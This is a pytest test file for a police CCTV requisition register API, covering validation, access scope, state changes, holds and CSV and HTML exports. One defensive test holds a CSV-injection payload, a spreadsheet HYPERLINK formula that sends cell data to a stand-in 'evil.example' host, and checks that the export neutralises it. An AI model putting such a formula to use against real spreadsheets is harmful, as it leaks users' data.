"""The requisitions API over HTTP: recording, bad input, scope, states, register."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from beffroi.archive.holds import active_holds
from beffroi.archive.retention import HoldRange
from beffroi.archive.tables import holds
from beffroi.clock import FakeClock, utc_ms
from beffroi.requisitions.register import mark_extracting
from beffroi.requisitions.tables import requisition_history
from beffroi.web.context import AppContext
from tests.archive.factory import add_segments
from tests.requisitions.conftest import Headers, requisition_body

Journal = Callable[[str], list[Any]]
H = 3_600_000


def post(client: TestClient, who: Headers, **over: Any) -> Any:
    return client.post("/api/requisitions", json=requisition_body(**over), headers=who)


def test_recording_numbers_holds_and_journals(
    client: TestClient, ctx: AppContext, people: dict[str, Headers], journal: Journal
) -> None:
    r = post(client, people["chef"], assigned_to=["opj-martin"], notes="véhicule gris")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["number"] == "2026-0001" and body["state"] == "received"
    assert body["authority"]["rank"] == "Capitaine" and body["assigned_to"] == ["opj-martin"]
    assert body["received_at"].startswith("2026-11-01T07:30:00")
    second = post(client, people["chef"], procedure="2026/000777").json()
    assert second["number"] == "2026-0002"
    start, end = utc_ms_iso("2026-11-01T06:00:00Z"), utc_ms_iso("2026-11-01T07:00:00Z")
    assert active_holds(ctx.engine, "jlt-001") == [HoldRange("jlt-001", start, end)] * 2
    with ctx.engine.connect() as conn:
        row = conn.execute(select(holds).where(holds.c.requisition_id == body["id"])).one()
    assert row.created_by == "chef" and "2026-0001" in row.reason
    created = journal("requisition.create")
    assert [json.loads(e.detail)["requisition"] for e in created] == ["2026-0001", "2026-0002"]
    placed = journal("hold.place")
    assert len(placed) == 2 and placed[0].camera_id == "jlt-001" and placed[0].start_ms == start
    assert placed[0].commune_id == "joue-les-tours" and placed[0].username == "chef"


def utc_ms_iso(text: str) -> int:
    from datetime import datetime

    return utc_ms(datetime.fromisoformat(text))


def test_bad_input_is_422_naming_the_problem(
    client: TestClient, people: dict[str, Headers]
) -> None:
    chef = people["chef"]
    r = client.post("/api/requisitions", json={"legal_basis": "60-1"}, headers=chef)
    assert r.status_code == 422
    missing = {tuple(e["loc"])[-1] for e in r.json()["detail"] if e["type"] == "missing"}
    assert {"authority", "procedure", "received_at", "items"} <= missing
    no_service = requisition_body(authority={"name": "Martin"})
    r = client.post("/api/requisitions", json=no_service, headers=chef)
    assert r.status_code == 422 and ["body", "authority", "service"] in [
        e["loc"] for e in r.json()["detail"]
    ]
    cases = {
        "start must be before end": {
            "items": [
                {
                    "camera": "jlt-001",
                    "start": "2026-11-01T07:00:00Z",
                    "end": "2026-11-01T06:00:00Z",
                }
            ]
        },
        "timezone": {
            "items": [
                {"camera": "jlt-001", "start": "2026-11-01T06:00:00", "end": "2026-11-01T07:00:00Z"}
            ]
        },
        "in the future": {"received_at": "2026-11-02T07:30:00Z"},
        "at least 1 item": {"items": []},
        "legal_basis_other is required": {"legal_basis": "other"},
        "unknown user 'nobody'": {"assigned_to": ["nobody"]},
        "'chef' is not an investigator": {"assigned_to": ["chef"]},
    }
    for words, over in cases.items():
        r = post(client, chef, **over)
        assert r.status_code == 422, (words, r.text)
        assert words in r.text, (words, r.text)
    ok = post(client, chef, legal_basis="other", legal_basis_other="art. L. 34-1 CPCE")
    assert ok.status_code == 201 and ok.json()["number"] == "2026-0001"  # no number burnt


def test_camera_outside_the_communes_reads_as_missing(
    client: TestClient, ctx: AppContext, people: dict[str, Headers]
) -> None:
    def item(camera: str) -> list[dict[str, str]]:
        return [{"camera": camera, "start": "2026-11-01T06:00:00Z", "end": "2026-11-01T07:00:00Z"}]

    other = post(client, people["chef"], items=item("cha-001"))
    ghost = post(client, people["chef"], items=item("nope-000"))
    assert other.status_code == ghost.status_code == 404
    assert other.text == ghost.text.replace("nope-000", "cha-001")
    assert active_holds(ctx.engine) == []
    assert post(client, people["dpo"]).status_code == 403  # the DPO reads, never records


def test_states_history_and_conflicts(
    client: TestClient, ctx: AppContext, people: dict[str, Headers], journal: Journal
) -> None:
    chef = people["chef"]
    rid = post(client, chef).json()["id"]
    url = f"/api/requisitions/{rid}"
    handover = {"delivered_to": "Capitaine Martin", "medium": "clé USB", "signature": "Martin"}
    r = client.post(f"{url}/deliver", json=handover, headers=chef)
    assert r.status_code == 409 and "export a package first" in r.text
    with ctx.engine.begin() as conn:
        mark_extracting(conn, rid, "chef", utc_ms(ctx.clock.now()))
        mark_extracting(conn, rid, "chef", utc_ms(ctx.clock.now()))  # no-op the second time
    r = client.post(f"{url}/deliver", json=handover, headers=chef)
    assert r.status_code == 200, r.text
    d = r.json()
    assert d["state"] == "delivered" and d["delivery"]["medium"] == "clé USB"
    assert d["delivery"]["signature"] == "Martin" and d["closed_at"] is not None
    assert client.post(f"{url}/refuse", json={"reason": "x"}, headers=chef).status_code == 409
    assert client.post(f"{url}/refuse", json={}, headers=chef).status_code == 422
    # Closing never releases the holds: the prosecutor decides.
    assert len(active_holds(ctx.engine, "jlt-001")) == 1
    with ctx.engine.connect() as conn:
        hist = conn.execute(
            select(requisition_history)
            .where(requisition_history.c.requisition_id == rid)
            .order_by(requisition_history.c.id)
        ).all()
    assert [(h.from_state, h.to_state) for h in hist] == [
        (None, "received"),
        ("received", "extracting"),
        ("extracting", "delivered"),
    ]
    assert json.loads(hist[-1].detail)["medium"] == "clé USB" and hist[-1].by == "chef"
    updates = [json.loads(e.detail) for e in journal("requisition.update")]
    assert updates == [
        {
            "requisition": "2026-0001",
            "from": "extracting",
            "to": "delivered",
            "delivered_to": "Capitaine Martin",
            "delivered_at": "2026-11-01T08:00:00+00:00",
            "medium": "clé USB",
            "signature": "Martin",
        }
    ]
    other = post(client, chef).json()["id"]
    r = client.post(
        f"/api/requisitions/{other}/refuse", json={"reason": "hors délai"}, headers=chef
    )
    assert r.status_code == 200 and r.json()["close_reason"] == "hors délai"
    assert (
        client.post("/api/requisitions/999/refuse", json={"reason": "x"}, headers=chef).status_code
        == 404
    )


def test_no_footage_only_when_the_index_has_none(
    client: TestClient, ctx: AppContext, people: dict[str, Headers], clock: FakeClock
) -> None:
    chef = people["chef"]
    t6 = utc_ms_iso("2026-11-01T06:00:00Z")
    add_segments(
        ctx.engine, ctx.archive_root, "jlt-001", t6 - 10 * 60_000, 2, duration_ms=20 * 60_000
    )
    items = [
        {"camera": "jlt-001", "start": "2026-11-01T06:00:00Z", "end": "2026-11-01T07:00:00Z"},
        {"camera": "jlt-002", "start": "2026-11-01T06:00:00Z", "end": "2026-11-01T07:00:00Z"},
    ]
    rid = post(client, chef, items=items).json()["id"]
    detail = client.get(f"/api/requisitions/{rid}", headers=chef).json()
    f1, f2 = (i["footage"] for i in detail["items"])
    assert f1["recorded_seconds"] == 30 * 60  # 06:00-06:30 of the two 20-minute segments
    assert [(g["start"][11:19], g["seconds"]) for g in f1["gaps"]] == [("06:30:00", 1800.0)]
    assert f2["recorded_seconds"] == 0 and f2["messages"] == [
        "no recording for jlt-002 between 2026-11-01T07:00:00+01:00 and 2026-11-01T08:00:00+01:00"
    ]
    assert [h["camera"] for h in detail["holds"]] == ["jlt-001", "jlt-002"]
    assert detail["history"][0]["to_state"] == "received"
    r = client.post(f"/api/requisitions/{rid}/no-footage", headers=chef)
    assert r.status_code == 409 and "footage exists" in r.text

    only_002 = post(client, chef, items=items[1:]).json()["id"]
    r = client.post(
        f"/api/requisitions/{only_002}/no-footage", json={"note": "caméra en panne"}, headers=chef
    )
    assert r.status_code == 200, r.text
    assert r.json()["state"] == "no_footage" and r.json()["close_reason"] == "caméra en panne"
    hist = client.get(f"/api/requisitions/{only_002}", headers=chef).json()["history"]
    assert "no recording for jlt-002" in hist[-1]["detail"]


def test_register_scope_filters_and_printouts(
    client: TestClient, ctx: AppContext, people: dict[str, Headers], journal: Journal
) -> None:
    chef, cha = people["chef"], people["chef-cha"]
    a = post(client, chef, assigned_to=["opj-martin"]).json()
    b = post(client, chef, procedure="2026/000999").json()
    c_item = [{"camera": "cha-001", "start": "2026-11-01T06:00:00Z", "end": "2026-11-01T06:10:00Z"}]
    c = post(client, cha, items=c_item).json()
    assert c["number"] == "2026-0003"

    def numbers(who: Headers, **params: Any) -> list[str]:
        r = client.get("/api/requisitions", params=params, headers=who)
        assert r.status_code == 200, r.text
        return [x["number"] for x in r.json()]

    assert numbers(chef) == [a["number"], b["number"]]
    assert numbers(cha) == [c["number"]]
    assert numbers(people["dpo"]) == [a["number"], b["number"]]
    assert numbers(people["opj-martin"]) == [a["number"]]
    assert numbers(people["opj-durand"]) == []
    assert numbers(chef, procedure="2026/000999") == [b["number"]]
    assert numbers(chef, state="refused") == [] and numbers(chef, year=2025) == []
    assert numbers(chef, year=2026, state="received") == [a["number"], b["number"]]
    # One requisition: same scope rule, same 404 as a missing one.
    assert (
        client.get(f"/api/requisitions/{a['id']}", headers=people["opj-martin"]).status_code == 200
    )
    for who, rid in ((people["opj-durand"], a["id"]), (cha, a["id"]), (chef, c["id"])):
        r = client.get(f"/api/requisitions/{rid}", headers=who)
        assert (r.status_code, r.json()) == (404, {"detail": f"no requisition #{rid}"})
    assert client.get("/api/requisitions", params={"year": 1}, headers=chef).status_code == 422

    r = client.get("/api/requisitions", params={"format": "csv"}, headers=chef)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][0] == "numéro" and rows[0][-1] == "remise" and len(rows) == 3
    assert rows[1][0] == "2026-0001" and rows[1][1] == "01/11/2026 08:30:00"
    assert rows[1][2] == "Capitaine Martin, Commissariat de Tours"
    assert (
        rows[1][3].startswith("art. 60-1")
        and rows[1][5] == "jlt-001 : 01/11/2026 07:00:00 – 08:00:00"
    )

    r = client.get("/api/requisitions", params={"format": "html"}, headers=chef)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    table = _cells(r.text)
    assert table[0] == [
        "numéro",
        "reçue le",
        "autorité",
        "base légale",
        "procédure",
        "caméras et plages",
        "état",
        "remise",
    ]
    assert [row[0] for row in table[1:]] == ["2026-0001", "2026-0002"]
    assert table[1][6] == "reçue" and '<html lang="fr">' in r.text
    assert {json.loads(e.detail)["format"] for e in journal("requisition.export")} == {
        "csv",
        "html",
    }


class _Table(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def _cells(html: str) -> list[list[str]]:
    parser = _Table()
    parser.feed(html)
    return parser.rows


def test_destroyed_range_is_reported(
    client: TestClient, ctx: AppContext, people: dict[str, Headers], clock: FakeClock
) -> None:
    from beffroi.archive.maintenance import RetentionLoop
    from tests.archive.test_retention_loop import roomy

    t0 = utc_ms(clock.now()) - 20 * 86_400_000
    add_segments(ctx.engine, ctx.archive_root, "jlt-002", t0, 2)
    RetentionLoop(ctx.engine, ctx.archive_root, clock, 0, disk_usage_fn=roomy).run_once()
    item = [{"camera": "jlt-002", "start": "2026-10-12T08:00:00Z", "end": "2026-10-12T09:00:00Z"}]
    rid = post(client, people["chef"], items=item).json()["id"]
    f = client.get(f"/api/requisitions/{rid}", headers=people["chef"]).json()["items"][0]["footage"]
    assert f["recorded_seconds"] == 0 and f["destroyed"][0]["reason"] == "retention"
    assert f["destroyed"][0]["seconds"] == 3600
    assert any("was destroyed by retention" in m for m in f["messages"])


def test_the_register_csv_cannot_carry_a_formula(
    client: TestClient, people: dict[str, Headers]
) -> None:
    """A procedure number or an authority typed as a spreadsheet formula (CSV
    injection) comes out of the register as text: a leading apostrophe."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"voir")'
    r = post(client, people["chef"], procedure=attack, notes="-2+3")
    assert r.status_code == 201, r.text
    r = client.get("/api/requisitions", params={"format": "csv"}, headers=people["chef"])
    (row,) = list(csv.reader(io.StringIO(r.text)))[1:]
    assert row[4] == "'" + attack
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


def test_a_register_change_and_its_journal_entry_commit_together(
    client: TestClient, ctx: AppContext, people: dict[str, Headers]
) -> None:
    """The journal fails (its head row gone): the requisition, its holds and a hold placed
    by hand are not recorded either, so no register change is ever left without its
    trace, and a retry does not duplicate one."""
    from beffroi.journal.chain import JournalError
    from beffroi.journal.tables import journal_head
    from beffroi.requisitions.tables import requisitions

    with ctx.engine.begin() as conn:
        head = conn.execute(select(journal_head)).one()
        conn.execute(journal_head.delete())
    with pytest.raises(JournalError):
        post(client, people["chef"])
    body = {"camera": "jlt-001", "start": "2026-11-01T06:00:00Z",
            "end": "2026-11-01T07:00:00Z", "reason": "enquête"}  # fmt: skip
    with pytest.raises(JournalError):
        client.post("/api/holds", json=body, headers=people["chef"])
    with ctx.engine.connect() as conn:
        assert conn.execute(select(requisitions)).all() == []
        assert conn.execute(select(holds)).all() == []
    with ctx.engine.begin() as conn:
        conn.execute(journal_head.insert().values(**head._mapping))
    r = post(client, people["chef"])
    assert r.status_code == 201 and r.json()["number"] == "2026-0001"
